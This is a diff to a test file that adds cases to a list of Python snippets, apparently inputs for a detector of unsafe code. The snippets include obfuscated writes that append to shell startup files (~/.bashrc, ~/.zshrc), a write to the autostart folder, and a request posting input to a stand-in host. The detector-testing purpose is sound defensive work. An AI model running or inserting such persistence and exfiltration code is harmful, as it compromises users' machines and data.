@@ -41,6 +41,8 @@ test.each([
   'open("~/.bas" + "hrc", "a").write("x")',
   'open("~/.bas" f"hrc", "a").write("x")',
   'open("~/\\x2ebashrc", "a").write("x")',
+  'open("~/.b" \'\\141shrc\', "a").write("x")',
+  'open(\'\'\'~/.bas\'\'\' + "hrc", "a").write("x")',
   'f = open("~/.zshrc", "a")\nprint("x", file=f)',
   'open(Path.home() / ".config" / "autostart" / n, "w").write("x")',
   'import requests\nrequests.post("https://a.invalid", data=input())',
